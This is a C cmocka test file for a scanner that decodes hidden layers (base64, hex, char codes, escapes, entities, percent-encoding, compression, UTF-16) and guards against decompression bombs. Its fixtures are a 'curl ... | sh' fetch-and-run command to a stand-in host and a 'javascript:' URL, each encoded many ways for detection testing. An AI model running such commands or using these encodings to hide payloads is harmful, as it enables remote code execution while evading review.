/* Decoded layers: what is found, where, how deep, and what stops it. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <string.h>
#include <zlib.h>

#include "scan/layers.h"
#include "scan/plain.h"

enum { MAX_SEEN = 64 };

struct seen {
    struct {
        char kind[16];
        size_t offset;
        size_t len;
        char text[256];
    } items[MAX_SEEN];
    size_t count;
    int fail_with;
};

static int remember(void *ctx, const struct vb_layer *layer, struct vb_error *err)
{
    struct seen *seen = ctx;
    if (seen->fail_with != 0)
        return vb_fail(err, seen->fail_with, 0, "stopped");
    assert_true(seen->count < MAX_SEEN);
    const size_t shown = layer->len < 255 ? layer->len : 255;
    (void)snprintf(seen->items[seen->count].kind, 16, "%s", layer->kind);
    seen->items[seen->count].offset = layer->offset;
    seen->items[seen->count].len = layer->len;
    memcpy(seen->items[seen->count].text, layer->data, shown);
    seen->count++;
    return VB_OK;
}

static struct vb_layer_budget budget_of(size_t bytes, unsigned count)
{
    return (struct vb_layer_budget){.bytes = bytes, .count = count};
}

static void find(const void *data, size_t len, struct vb_layer_budget *budget, struct seen *seen)
{
    struct vb_error err = {0};
    memset(seen, 0, sizeof(*seen));
    if (vb_layers_each(data, len, budget, remember, seen, &err) < 0)
        fail_msg("%s", err.message);
}

static void find_text(const char *text, struct seen *seen)
{
    struct vb_layer_budget budget = budget_of(1 << 20, 100);
    find(text, strlen(text), &budget, seen);
    assert_false(budget.cut || budget.bomb);
}

static void expect_one(const char *text, const char *kind, size_t offset, const char *decoded)
{
    struct seen seen;
    find_text(text, &seen);
    for (size_t i = 0; i < seen.count; i++) {
        if (strcmp(seen.items[i].kind, kind) == 0 && seen.items[i].offset == offset &&
            strcmp(seen.items[i].text, decoded) == 0)
            return;
    }
    fail_msg("no %s@%zu \"%s\" in \"%s\" (%zu layers, first %s@%zu \"%s\")", kind, offset, decoded,
             text, seen.count, seen.items[0].kind, seen.items[0].offset, seen.items[0].text);
}

static void expect_none(const char *text)
{
    struct seen seen;
    find_text(text, &seen);
    if (seen.count != 0)
        fail_msg("%s@%zu \"%s\" found in \"%s\"", seen.items[0].kind, seen.items[0].offset,
                 seen.items[0].text, text);
}

static void test_base64(void **state)
{
    (void)state;
    static const char curl[] = "curl -s https://in.example.net/x | sh";
    expect_one("run: Y3VybCAtcyBodHRwczovL2luLmV4YW1wbGUubmV0L3ggfCBzaA== now", "base64", 5, curl);
    /* without padding, and in the alphabet of URLs */
    expect_one("Y3VybCAtcyBodHRwczovL2luLmV4YW1wbGUubmV0L3ggfCBzaA", "base64", 0, curl);
    expect_one("k=fn5-IGN1cmwgLXMgeCB-fn4gP2E_Yj9jIH5-fg", "base64", 2,
               "~~~ curl -s x ~~~ ?a?b?c ~~~");
    /* wrapped, with CRLF and with \n written out as in JSON */
    expect_one("Y3VybCAtcyBodHRwczovL2luLmV4YW1wbGUu\r\n  bmV0L3ggfCBzaA==", "base64", 0, curl);
    expect_one("\"Y3VybCAtcyBodHRwczovL2luLmV4YW1wbGUu\\nbmV0L3ggfCBzaA==\"", "base64", 1, curl);
    /* joined string literals */
    expect_one("x = \"Y3VybCAtcyBodHRw\" +\n    \"czovL2luLmV4YW1w\" + \"bGUubmV0L3ggfCBzaA==\"",
               "base64", 5, curl);
    expect_one("['Y3VybCAtcyBodHRw','czovL2luLmV4YW1w','bGUubmV0L3ggfCBzaA==']", "base64", 2, curl);
    /* a neighbour that is none of it */
    expect_one("decode(\"utf\", \"Y3VybCAtcyBodHRwczovL2luLmV4YW1wbGUubmV0L3ggfCBzaA==\")",
               "base64", 15, curl);
    /* glued to other digits of the alphabet */
    expect_one("aY3VybCAtcyBodHRwczovL2luLmV4YW1wbGUubmV0L3ggfCBzaA==", "base64", 1, curl);
}

static void test_no_layers(void **state)
{
    (void)state;
    expect_none("An ordinary sentence about internationalization and standardization of words.");
    expect_none("/usr/local/share/applications/very/long/path/without/any/encoding/at/all");
    expect_none("sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
    expect_none(
        "integrity sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kx"
        "vUdBeoGlODJ6+SfaPg==");
    expect_none("c3f4a9d2-7b1e-4c5d-9a8b-0f1e2d3c4b5a 550e8400-e29b-41d4-a716-446655440000");
    expect_none("x = [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 200, 210]");
    expect_none("alphabet = [65, 66, 67, 68, 69, 70, 71, 72, 73, 74, 75, 76, 77, 78, 79]");
    expect_none("printf \"\\x1b[31m red \\x1b[0m\"");
    expect_none("https://example.org/search?q=a%20b&lang=%7Bx%7D");
    expect_none("\\u4f60\\u597d\\u4e16\\u754c\\u4f60\\u597d\\u4e16\\u754c");
    expect_none("");
}

static void test_hex_and_numbers(void **state)
{
    (void)state;
    expect_one("d = '6375726c202d73206578616d706c652e6e6574'", "hex", 5, "curl -s example.net");
    expect_one("[0x63, 0x75, 0x72, 0x6c, 0x20, 0x2d, 0x73, 0x20, 0x78, 0x2e, 0x79, 0x7a]",
               "charcode", 1, "curl -s x.yz");
    expect_one("String.fromCharCode(99,117,114,108,32,45,115,32,120,46,121,122)", "charcode", 20,
               "curl -s x.yz");
    expect_one("chr(99)+chr(117)+chr(114)+chr(108)+chr(32)+chr(45)+chr(115)+chr(32)+chr(120)+"
               "chr(46)+chr(121)+chr(122)",
               "charcode", 4, "curl -s x.yz");
    expect_one("s = \"\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73 x.yz/abc\"", "escape", 5,
               "curl -s x.yz/abc");
    expect_one("'\\u0063\\u0075\\u0072\\u006c\\u0020x.yz/\\u0061bc'", "escape", 1, "curl x.yz/abc");
    expect_one("<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:x()\">",
               "entity", 9, "javascript:x()");
    expect_one("go %63%75%72%6c%20%2d%73%20x.yz end", "percent", 3, "curl -s x.yz");
}

static size_t deflate_bytes(const void *data, size_t len, int window, unsigned char *out,
                            size_t size)
{
    z_stream stream = {0};
    assert_int_equal(deflateInit2(&stream, 9, Z_DEFLATED, window, 8, Z_DEFAULT_STRATEGY), Z_OK);
    stream.next_in = (Bytef *)(uintptr_t)data;
    stream.avail_in = (uInt)len;
    stream.next_out = out;
    stream.avail_out = (uInt)size;
    assert_int_equal(deflate(&stream, Z_FINISH), Z_STREAM_END);
    const size_t used = stream.total_out;
    deflateEnd(&stream);
    return used;
}

static void test_compressed(void **state)
{
    (void)state;
    static const char text[] = "the same text, the same text, the same text";
    unsigned char data[256] = "head:";
    struct seen seen;
    struct vb_layer_budget budget = budget_of(1 << 20, 10);
    const size_t used = deflate_bytes(text, sizeof(text) - 1, 31, data + 5, sizeof(data) - 5);
    find(data, 5 + used, &budget, &seen);
    assert_int_equal(seen.count, 1);
    assert_string_equal(seen.items[0].kind, "gzip");
    assert_int_equal(seen.items[0].offset, 5);
    assert_string_equal(seen.items[0].text, text);

    const size_t zlib = deflate_bytes(text, sizeof(text) - 1, 15, data, sizeof(data));
    find(data, zlib, &budget, &seen);
    assert_int_equal(seen.count, 1);
    assert_string_equal(seen.items[0].kind, "zlib");
    /* cut short: what there is of it is still a layer */
    find(data, zlib - 6, &budget, &seen);
    assert_int_equal(seen.count, 1);
}

static void test_bomb(void **state)
{
    (void)state;
    enum { PLAIN = 64 * 1024 * 1024, PACKED = 128 * 1024 };
    unsigned char *plain = calloc(1, PLAIN);
    unsigned char *packed = malloc(PACKED);
    struct seen seen;
    assert_non_null(plain);
    assert_non_null(packed);
    memset(plain, 'a', PLAIN);
    const size_t used = deflate_bytes(plain, PLAIN, 31, packed, PACKED);
    struct vb_layer_budget budget = budget_of(PLAIN, 10);
    find(packed, used, &budget, &seen);
    assert_true(budget.bomb);
    assert_int_equal(seen.count, 1);
    assert_true(seen.items[0].len < PLAIN / 4); /* the beginning only */
    budget = budget_of(4096, 10);               /* and never more than the budget */
    find(packed, used, &budget, &seen);
    assert_true(budget.cut);
    assert_int_equal(seen.items[0].len, 4096);
    assert_int_equal(budget.bytes, 0);
    free(plain);
    free(packed);
}

static void test_budget(void **state)
{
    (void)state;
    static const char line[] = "Y3VybCAtcyBodHRwczovL2luLmV4YW1wbGUubmV0L3ggfCBzaA==\n\n;";
    char text[sizeof(line) * 8];
    struct seen seen;
    for (size_t i = 0; i < 8; i++)
        memcpy(text + i * (sizeof(line) - 1), line, sizeof(line));
    struct vb_layer_budget budget = budget_of(1 << 20, 3);
    find(text, strlen(text), &budget, &seen);
    assert_int_equal(seen.count, 3);
    assert_true(budget.cut);
    budget = budget_of(40, 100);
    find(text, strlen(text), &budget, &seen);
    assert_int_equal(seen.count, 2);
    assert_int_equal(seen.items[1].len, 3);
    assert_true(budget.cut);
}

static void test_utf16(void **state)
{
    (void)state;
    static const char wide[] = "\xff\xfe"
                               "c\0u\0r\0l\0 \0-\0s\0 \0x\0.\0y\0z";
    struct seen seen;
    struct vb_layer_budget budget = budget_of(1 << 20, 10);
    find(wide, sizeof(wide), &budget, &seen);
    assert_int_equal(seen.count, 1);
    assert_string_equal(seen.items[0].kind, "utf16");
    assert_string_equal(seen.items[0].text, "curl -s x.yz");
    find(wide + 2, sizeof(wide) - 2, &budget, &seen); /* PowerShell's has no mark */
    assert_string_equal(seen.items[0].text, "curl -s x.yz");
    static const char surrogates[] = "\xff\xfe"
                                     "\x3d\xd8\x00\xde\x00\xd8";
    find(surrogates, sizeof(surrogates) - 1, &budget, &seen);
    assert_int_equal(memcmp(seen.items[0].text, "\xf0\x9f\x98\x80\xef\xbf\xbd", 7), 0);
}

static void test_failure_is_passed_on(void **state)
{
    (void)state;
    static const char text[] = "Y3VybCAtcyBodHRwczovL2luLmV4YW1wbGUubmV0L3ggfCBzaA==";
    struct seen seen = {.fail_with = VB_E_IO};
    struct vb_error err = {0};
    struct vb_layer_budget budget = budget_of(1000, 10);
    assert_int_equal(vb_layers_each((const unsigned char *)text, sizeof(text) - 1, &budget,
                                    remember, &seen, &err),
                     VB_E_IO);
}

/* Long runs of anything take linear time: a quadratic decoder would not end in this test's time. */
static void test_long_runs(void **state)
{
    (void)state;
    enum { LONG = 1024 * 1024 };
    static const char *const fillings[] = {
        "a",     "A=",    "\"a\"+", "\"abcd\"+",    "%61", "%",      "1,", "\\x61", "\\",    "\"",
        "&#97;", "0x61,", "chr(",   "\x1f\x8b\x08", "\n",  "abc\\n", "&",  "9.",    "'\\x61"};
    char *text = malloc(LONG);
    assert_non_null(text);
    for (size_t i = 0; i < VB_ARRAY_LEN(fillings); i++) {
        const size_t len = strlen(fillings[i]);
        struct vb_layer_budget budget = budget_of(1 << 20, 20);
        struct seen seen;
        for (size_t at = 0; at < LONG; at++)
            text[at] = fillings[i][at % len];
        find(text, LONG, &budget, &seen);
    }
    free(text);
}

/* Of a layer's text, what its file says openly, too, as far as that may be read. */
static void test_plain(void **ret)
{
    static const char file[] = "run('git status --short') // see https://a.example/x%2Fb.example\n";
    static const struct {
        const char *text, *plain;
        uint64_t left;
    } rows[] = {
        {"{\"run\":\"git status --short\"}", "git status --short\n", 1000},
        {"x=1\ngit status --short\ny=2", "git status --short\n", 1000},
        {"git status --short --porcelain", "", 1000},
        {"curl http://b.example/gate", "b.example\n", 1000},
        {"curl http://c.example/gate", "", 1000},
        {"git \"status\"", "", 1000}, /* pieces that say nothing */
        {"git status --short", "", sizeof(file) - 2},
        {"", "", 1000},
    };
    (void)ret;
    for (size_t i = 0; i < VB_ARRAY_LEN(rows); i++) {
        VB_CLEANUP(vb_buf_done) struct vb_buf plain;
        struct vb_error err = {0};
        uint64_t left = rows[i].left;
        vb_buf_init(&plain, 4096);
        const struct vb_str whole = {file, sizeof(file) - 1};
        const struct vb_str text = {rows[i].text, strlen(rows[i].text)};
        assert_int_equal(vb_plain_pieces(whole, text, &left, &plain, &err), 0);
        assert_int_equal(vb_buf_append(&plain, "", 1, &err), 0);
        assert_string_equal(plain.data, rows[i].plain);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_base64),
        cmocka_unit_test(test_no_layers),
        cmocka_unit_test(test_hex_and_numbers),
        cmocka_unit_test(test_compressed),
        cmocka_unit_test(test_bomb),
        cmocka_unit_test(test_budget),
        cmocka_unit_test(test_utf16),
        cmocka_unit_test(test_failure_is_passed_on),
        cmocka_unit_test(test_long_runs),
        cmocka_unit_test(test_plain),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
